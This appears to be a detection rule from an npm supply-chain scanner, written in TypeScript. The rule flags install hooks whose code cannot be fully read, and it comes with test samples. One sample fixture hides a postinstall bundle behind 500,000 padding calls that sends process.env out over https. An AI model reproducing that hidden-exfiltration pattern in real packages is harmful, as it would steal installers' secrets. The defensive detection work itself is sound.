import { hooks, isPlatformDownload } from '../traces';
import type { Rule } from '../rule';

export const hookUntraceable: Rule = {
  code: 'hook-untraceable',
  ecosystem: 'npm',
  kind: 'install-hook',
  severity: 'high',
  verdict: 'suspicious',
  tactic: 'defense-evasion',
  capabilities: [],
  languages: ['javascript', 'python', 'shell', 'gyp'],
  summary:
    'A part of what an install hook runs cannot be read: a missing, unparsable or oversized file, or a name that only running it would tell.',
  judge: (facts) =>
    hooks(facts)
      .filter((trace) => !isPlatformDownload(trace, facts))
      .flatMap(({ entry, gaps }) =>
        gaps.map(({ what, file, line }) => ({
          message: `${entry} cannot be followed to its end: ${what}.`,
          ...(file === undefined ? {} : { file }),
          ...(line === undefined ? {} : { line }),
        })),
      ),
  samples: {
    hits: [
      {
        what: 'a file that is not there',
        format: 'tarball',
        manifest: { scripts: { postinstall: 'node gone.js' } },
        verdict: 'suspicious',
      },
      {
        what: 'a file that cannot be parsed',
        format: 'tarball',
        manifest: { scripts: { postinstall: 'node x.js' } },
        files: { 'x.js': 'this is ) not javascript' },
        verdict: 'suspicious',
      },
      {
        what: 'a module that only running would name',
        format: 'tarball',
        manifest: { scripts: { postinstall: 'node x.js' } },
        files: { 'x.js': 'require("./" + process.argv[2])' },
        verdict: 'suspicious',
      },
      {
        what: 'a very large bundle that steals',
        format: 'tarball',
        manifest: { scripts: { postinstall: 'node bundle.js' } },
        files: {
          'bundle.js': {
            repeat: 'x(1);',
            times: 500_000,
            then: 'const h=require("https");h.request("x").end(JSON.stringify(process.env))',
          },
        },
        verdict: 'malicious',
        speaks: ['hook-credential-theft'],
      },
    ],
    ignores: [
      {
        what: 'a banner in a file that may be absent',
        format: 'tarball',
        manifest: { scripts: { postinstall: 'node -e "try{require(\'./banner\')}catch(e){}"' } },
        files: { 'banner.js': 'console.log(process.env.npm_config_loglevel)' },
        why: 'The file is there, and is read to its end.',
        verdict: 'warning',
      },
    ],
  },
};
